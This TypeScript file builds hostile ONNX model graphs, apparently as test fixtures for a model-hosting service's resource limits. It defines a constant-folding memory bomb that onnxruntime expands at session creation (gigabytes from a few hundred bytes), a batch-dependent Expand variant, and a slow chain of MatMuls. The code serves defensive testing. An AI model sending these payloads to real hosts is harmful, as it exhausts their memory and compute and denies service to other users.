/**
 * Hostile ONNX graphs, built here with onnx-proto (what a modified client sends a host), and a slow-but-small
 * one. Each takes x float32 [N, 1] (or [N, cols]) and gives one float32 output, so it passes every check a
 * host makes on a model's I/O: only its size or its cost is hostile.
 */
import onnxProto from "onnx-proto";

const { onnx } = onnxProto;
const FLOAT = 1;
const INT64 = 7;

type NodeInit = NonNullable<Parameters<typeof onnx.NodeProto.create>[0]>;
type TensorInit = NonNullable<Parameters<typeof onnx.TensorProto.create>[0]>;

function vi(name: string, dims: (number | string)[]) {
  return {
    name,
    type: {
      tensorType: {
        elemType: FLOAT,
        shape: { dim: dims.map((d) => (typeof d === "number" ? { dimValue: d } : { dimParam: d })) },
      },
    },
  };
}

function encode(
  nodes: NodeInit[],
  initializer: TensorInit[],
  input: ReturnType<typeof vi>,
  output: ReturnType<typeof vi>,
): Uint8Array {
  const model = onnx.ModelProto.create({
    irVersion: 8,
    opsetImport: [{ domain: "", version: 13 }],
    graph: { name: "g", node: nodes, initializer, input: [input], output: [output] },
  });
  return Uint8Array.from(onnx.ModelProto.encode(model).finish());
}

function int64s(name: string, values: number[]): TensorInit {
  const raw = BigInt64Array.from(values.map(BigInt));
  return { name, dims: [values.length], dataType: INT64, rawData: new Uint8Array(raw.buffer) };
}

/**
 * The attack: ConstantOfShape([2^log2]) → ReduceSum, added to x. At full graph optimisation
 * onnxruntime folds it while creating the session (2^28: 6.9 s and 2.1 GB in onnxruntime-node); 2^30
 * aborts a browser worker. A few hundred bytes on the wire.
 */
export function constantBombModel(log2 = 28): Uint8Array {
  return encode(
    [
      {
        opType: "ConstantOfShape",
        input: ["shape"],
        output: ["big"],
        attribute: [
          {
            name: "value",
            type: 4, // TENSOR
            t: { dims: [1], dataType: FLOAT, rawData: new Uint8Array(Float32Array.of(1).buffer) },
          },
        ],
      },
      {
        opType: "ReduceSum",
        input: ["big"],
        output: ["sum"],
        attribute: [{ name: "keepdims", type: 2, i: 0 }],
      },
      { opType: "Add", input: ["x", "sum"], output: ["y"] },
    ],
    [int64s("shape", [2 ** log2])],
    vi("x", ["N", 1]),
    vi("y", ["N", 1]),
  );
}

/** The same bomb with the shape behind an Expand (x's batch broadcast to [N, 2^log2]): its size depends
 *  on the rows a request may send, so only a bound on them decides. */
export function expandBombModel(log2: number): Uint8Array {
  return encode(
    [
      { opType: "Expand", input: ["x", "shape"], output: ["wide"] },
      {
        opType: "ReduceSum",
        input: ["wide", "axes"],
        output: ["y"],
        attribute: [{ name: "keepdims", type: 2, i: 1 }],
      },
    ],
    [int64s("shape", [1, 2 ** log2]), int64s("axes", [1])],
    vi("x", ["N", 1]),
    vi("y", ["N", 1]),
  );
}

/** Small on the wire and harmless in memory, but `depth` chained MatMuls of [N, width] × [width, width]:
 *  slow per row (the run time limit's case). One shared weight, so the file stays ~width² × 4 bytes. */
export function slowChainModel(depth = 400, width = 256): Uint8Array {
  const w = new Float32Array(width * width);
  for (let i = 0; i < width; i++) w[i * width + i] = 1; // identity: values stay finite
  const nodes: NodeInit[] = [];
  for (let i = 0; i < depth; i++) {
    nodes.push({ opType: "MatMul", input: [i === 0 ? "x" : `h${i}`, "w"], output: [`h${i + 1}`] });
  }
  nodes.push({ opType: "Identity", input: [`h${depth}`], output: ["y"] });
  return encode(
    nodes,
    [{ name: "w", dims: [width, width], dataType: FLOAT, rawData: new Uint8Array(w.buffer) }],
    vi("x", ["N", width]),
    vi("y", ["N", width]),
  );
}
